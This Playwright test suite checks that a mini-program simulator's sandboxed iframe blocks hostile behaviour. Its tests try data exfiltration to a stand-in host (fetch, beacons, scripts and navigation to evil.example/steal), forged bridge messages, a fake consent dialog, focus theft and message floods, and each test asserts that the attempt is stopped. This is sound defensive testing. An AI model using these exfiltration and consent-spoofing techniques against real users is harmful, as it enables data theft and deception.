import { expect, test } from '@playwright/test';
import { SimulatorPage } from './simulator-page.ts';

/** The mini program is untrusted: each attack is really tried from inside the frame. */
test.describe('the frame is a boundary', () => {
  let simulator: SimulatorPage;
  test.beforeEach(async ({ page }) => {
    simulator = new SimulatorPage(page);
    await simulator.open({ program: 'hostile', code: 'SECRET' });
  });
  const alive = async () => {
    await expect(simulator.inspector).toBeVisible();
    expect(await simulator.page.evaluate(() => 1 + 1)).toBe(2);
  };

  test('it runs in a process of its own, with an opaque origin', async ({ page, browser }) => {
    const frame = await simulator.frame();
    expect(await frame.evaluate(() => self.origin)).toBe('null');
    const session = await browser.newBrowserCDPSession();
    const { targetInfos } = await session.send('Target.getTargets');
    expect(
      targetInfos.some((target) => target.type === 'iframe' && target.url.includes('hostile.localhost')),
    ).toBe(true);
    expect(page.frames()).toHaveLength(2);
  });

  test('it cannot reach the host’s page, storage or URL', async () => {
    const frame = await simulator.frame();
    const seen = await frame.evaluate(() => {
      const tried = (what: () => unknown) => {
        try {
          return String(what());
        } catch (error) {
          return (error as Error).name;
        }
      };
      return {
        document: tried(() => parent.document.title),
        top: tried(() => top?.document.body),
        indexedDB: tried(() => indexedDB.open('x') && 'opened'),
        miniauth: tried(() => (parent as unknown as { miniauth: unknown }).miniauth),
        frame: tried(() => window.frameElement),
        referrer: document.referrer,
        base: document.baseURI,
        name: window.name,
      };
    });
    expect(seen.document).toBe('SecurityError');
    expect(seen.top).toBe('SecurityError');
    expect(seen.indexedDB).toBe('SecurityError');
    expect(seen.miniauth).toBe('SecurityError');
    expect(['null', 'SecurityError']).toContain(seen.frame);
    expect(seen.name).toBe('');
    expect(JSON.stringify(seen)).not.toContain('SECRET');
  });

  test('it cannot fetch past the gate', async ({ page }) => {
    // What the policy blocks is announced as a request too, but it never gets as far as a route.
    const asked: string[] = [];
    await page.route('https://evil.example/**', (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    const frame = await simulator.frame();
    await frame.evaluate(async () => {
      const url = 'https://evil.example/steal';
      await fetch(url).catch(() => undefined);
      navigator.sendBeacon?.(url);
      new Image().src = url;
      const script = document.createElement('script');
      script.src = url;
      document.head.append(script);
      const nested = document.createElement('iframe');
      nested.src = url;
      document.body.append(nested);
    });
    await expect.poll(() => simulator.notices()).toContain('blocked');
    expect(asked).toEqual([]);
    expect(await simulator.steps()).toContain('merchant.request');
  });

  for (const [way, go] of Object.entries({
    'setting its location': () => {
      location.href = 'https://evil.example/?stolen';
    },
    'submitting a form': () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    },
  }))
    test(`navigating itself away by ${way} ends the run, with a notice, and reaches nobody`, async ({
      page,
    }) => {
      const asked: string[] = [];
      await page.route('https://evil.example/**', (route) => {
        asked.push(route.request().url());
        return route.abort();
      });
      const frame = await simulator.frame();
      await frame.evaluate(go);
      await expect.poll(() => simulator.notices()).toContain('navigatedAway');
      expect(asked).toEqual([]);
      expect(await page.evaluate(() => window.miniauth.current)).toBeNull();
      await alive();
    });

  test('it cannot navigate, close or open windows', async ({ page, context }) => {
    const frame = await simulator.frame();
    const url = page.url();
    const opened = await frame.evaluate(() => {
      const tried = (what: () => unknown) => {
        try {
          return what() === null ? 'null' : 'done';
        } catch (error) {
          return (error as Error).name;
        }
      };
      return [
        tried(() => {
          if (top) top.location.href = 'https://evil.example/';
        }),
        tried(() => window.open('https://evil.example/')),
        tried(() => top?.close()),
      ];
    });
    expect(opened[0]).toBe('SecurityError');
    expect(opened[1]).toBe('null');
    expect(page.url()).toBe(url);
    expect(context.pages()).toHaveLength(1);
    await alive();
  });

  test('a flood of messages ends the run with a notice', async () => {
    const frame = await simulator.frame();
    await frame
      .evaluate(() => {
        const { my } = window as unknown as { my: { getStorageSync(o: object): unknown } };
        for (let i = 0; i < 50_000; i++) my.getStorageSync({ key: 'x' });
      })
      .catch(() => undefined);
    await expect.poll(() => simulator.notices()).toContain('flood');
    await alive();
  });

  test('window messages are not the bridge: forged hellos, ports and junk change nothing', async () => {
    const frame = await simulator.frame();
    await frame.evaluate(() => {
      parent.postMessage({ miniauth: 'hello' }, '*');
      parent.postMessage({ miniauth: 'hello', nonce: 7, url: [] }, '*');
      parent.postMessage('call 1 getAuthCode {"scopes":["auth_user"]}', '*');
      parent.postMessage({ miniauth: 'port', nonce: 'x' }, '*', [new MessageChannel().port1]);
    });
    await simulator.program.getByRole('button', { name: 'Ask for consent' }).click();
    await simulator.agree();
    await expect(simulator.program.locator('#result')).toHaveText('granted 13');
  });

  test('it cannot answer its own consent dialog, nor cover it', async ({ page }) => {
    await simulator.program.getByRole('button', { name: 'Ask for consent' }).click();
    const agree = simulator.dialog.getByRole('button', { name: 'Agree' });
    await expect(agree).toBeVisible();
    const frame = await simulator.frame();
    await frame.evaluate(() => {
      document.body.innerHTML = '<dialog id="fake" style="width:100vw;height:100vh">Agree</dialog>';
      (document.getElementById('fake') as HTMLDialogElement).showModal();
      parent.postMessage({ ending: 'agree', scopes: ['auth_user'] }, '*');
    });
    const box = await agree.boundingBox();
    const onTop = await page.evaluate(
      ({ x, y }) => document.elementFromPoint(x, y)?.closest('dialog') !== null,
      { x: (box?.x ?? 0) + 5, y: (box?.y ?? 0) + 5 },
    );
    expect(onTop).toBe(true);
    // A click that a script makes is no answer.
    await agree.evaluate((button) => (button as HTMLButtonElement).click());
    await expect(simulator.dialog).toBeVisible();
    expect((await simulator.steps()).includes('wallet.submitConsent')).toBe(false);
  });

  test('a double click on the program does not land on Agree', async ({ page }) => {
    // Long enough for a busy machine to be done with the second click.
    await page.evaluate(() => window.miniauth.setPolicies({ consentArming: 20_000 }));
    const button = simulator.program.getByRole('button', { name: 'Ask for consent' });
    await button.click();
    const agree = simulator.dialog.getByRole('button', { name: 'Agree' });
    const box = await agree.boundingBox();
    await page.mouse.click((box?.x ?? 0) + 10, (box?.y ?? 0) + 10);
    await expect(simulator.dialog).toBeVisible();
    expect(await simulator.steps()).not.toContain('wallet.submitConsent');
  });

  test('stealing the keyboard from the dialog is noticed, and in the end the dialog is refused', async ({
    page,
  }) => {
    await page.evaluate(() => window.miniauth.setPolicies({ focusThefts: 2 }));
    await simulator.program.getByRole('button', { name: 'Ask for consent' }).click();
    await expect(simulator.dialog).toBeVisible();
    const frame = await simulator.frame();
    await frame.evaluate(() => {
      const input = document.createElement('input');
      document.body.append(input);
      setInterval(() => {
        window.focus();
        input.focus();
      }, 20);
    });
    await expect.poll(() => simulator.notices()).toContain('focusTheft');
    await expect.poll(() => simulator.notices()).toContain('focusTheftRefused');
    await expect(simulator.dialog).toBeHidden();
    await expect(simulator.program.locator('#result')).toHaveText(/^refused /);
  });

  test('powerful features are off', async () => {
    const frame = await simulator.frame();
    const allowed = await frame.evaluate(() => {
      const policy = (document as unknown as { featurePolicy?: { allowedFeatures(): string[] } })
        .featurePolicy;
      return policy?.allowedFeatures() ?? [];
    });
    for (const feature of ['camera', 'microphone', 'geolocation', 'payment', 'usb', 'clipboard-read'])
      expect(allowed).not.toContain(feature);
  });

  test('a program that never says hello is stopped with a notice', async ({ page }) => {
    await page.route('**/guest.js', (route) => route.fulfill({ contentType: 'text/javascript', body: '' }));
    const failed = await page.evaluate(() =>
      window.miniauth.open({ program: 'shop' }).then(
        () => 'started',
        (error: Error) => error.message,
      ),
    );
    expect(failed).toContain('noHello');
    expect(await simulator.notices()).toContain('noHello');
  });

  test('huge and strange values are refused, and the host goes on', async ({ page }) => {
    const frame = await simulator.frame();
    const failures = await frame.evaluate(async () => {
      const sparse: number[] = [];
      sparse.length = 100_000_000;
      parent.postMessage(sparse, '*');
      parent.postMessage('x'.repeat(50_000_000), '*');
      parent.postMessage({ miniauth: 'hello', nonce: 'x'.repeat(1_000_000), url: 'x' }, '*');
      const { my } = window as unknown as { my: Record<string, (options: object) => Promise<unknown>> };
      const error = (name: string, options: object) =>
        my[name]?.(options).then(
          () => 'success',
          (e: { error: unknown }) => e.error,
        );
      const deep: unknown[] = [];
      let inner = deep;
      for (let i = 0; i < 1_000; i++) {
        const next: unknown[] = [];
        inner.push(next);
        inner = next;
      }
      const cycle: Record<string, unknown> = {};
      cycle.self = cycle;
      return [
        await error('getAuthCode', { scopes: ['x'.repeat(100_000)] }),
        await error('getAuthCode', { scopes: deep }),
        await error('getAuthCode', { scopes: cycle }),
        await error('setStorage', { key: 'big', data: 'x'.repeat(250_000) }),
        await error('request', { url: 'https://x.example/', method: 'POST', data: 'x'.repeat(17_000_000) }),
      ];
    });
    expect(failures).toEqual([2, 2, 2, 14, 2]);
    expect(await page.evaluate(() => ({}) as { polluted?: unknown })).toEqual({});
    await simulator.program.getByRole('button', { name: 'Ask for consent' }).click();
    await simulator.agree();
    await expect(simulator.program.locator('#result')).toHaveText('granted 13');
  });

  test('a frame inside the frame cannot speak for the program', async () => {
    const frame = await simulator.frame();
    await frame.evaluate(() => {
      const nested = document.createElement('iframe');
      nested.srcdoc = "<script>top.postMessage({ miniauth: 'hello', nonce: 'n', url: 'x' }, '*')</script>";
      document.body.append(nested);
    });
    await expect.poll(() => simulator.notices()).toContain('nestedFrame');
    const events = await simulator.trace();
    expect(events.filter((event) => event.type === 'document.opened')).toHaveLength(1);
    await simulator.program.getByRole('button', { name: 'Ask for consent' }).click();
    await simulator.agree();
    await expect(simulator.program.locator('#result')).toHaveText('granted 13');
  });

  test('it cannot move the page through the history', async ({ page }) => {
    const frame = await simulator.frame();
    const url = page.url();
    await frame.evaluate(() => {
      for (let i = 0; i < 20; i++) location.hash = `#${i}`;
      history.go(-30);
      history.back();
    });
    await simulator.program.getByRole('button', { name: 'Ask for consent' }).click();
    await expect(simulator.dialog).toBeVisible();
    expect(page.url()).toBe(url);
  });
});
